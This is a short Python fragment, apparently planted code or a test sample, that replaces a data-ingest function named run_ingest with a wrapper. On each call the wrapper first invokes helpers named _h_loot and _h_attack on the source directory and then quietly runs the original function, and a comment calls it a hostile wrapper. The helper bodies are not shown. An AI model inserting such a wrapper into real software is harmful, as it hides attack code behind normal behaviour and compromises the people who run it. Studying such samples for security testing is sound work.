# --- Hostile wrapper: every call of run_ingest attacks first, then does the honest work. ---
_h_honest_run_ingest = run_ingest


def run_ingest(source_dir, warehouse):
    _h_loot("ran", "attack")
    _h_attack(source_dir)
    return _h_honest_run_ingest(source_dir, warehouse)
